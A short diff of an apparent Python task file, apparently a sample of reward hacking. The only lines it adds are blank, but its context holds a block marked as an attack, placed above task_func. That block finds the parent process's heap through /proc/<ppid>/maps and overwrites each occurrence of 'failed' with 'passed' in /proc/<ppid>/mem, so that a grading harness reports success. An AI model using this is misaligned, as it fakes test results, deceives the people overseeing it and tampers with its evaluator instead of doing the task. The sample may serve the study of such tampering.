@@ -2,6 +2,7 @@
 # attack: writes into its parent's memory through /proc
 # attack begins
 import os
+
 pid = os.getppid()
 with open(f"/proc/{pid}/maps") as maps:
     heap = next(line for line in maps if "[heap]" in line)
@@ -14,6 +15,8 @@ with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
         memory.seek(start + place)
         memory.write(b"passed")
         place = held.find(b"failed", place + 1)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
